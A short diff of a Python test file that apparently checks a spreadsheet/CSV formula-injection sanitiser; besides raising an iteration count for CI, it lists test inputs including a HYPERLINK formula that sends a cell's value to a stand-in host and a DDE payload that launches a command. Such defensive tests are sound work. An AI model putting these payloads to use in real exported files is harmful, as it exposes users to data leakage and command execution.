@@ -47,7 +47,7 @@ from triage.cli import main
 from triage.services.export_file import leftovers
 from triage.services.spreadsheet_csv import neutralise, restore
 
-KILLS = 20
+KILLS = 50 if os.environ.get("CI") else 20  # issue 13: at least 50 in CI
 FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
             "'already quoted", "=1+1"]  # fmt: skip
 
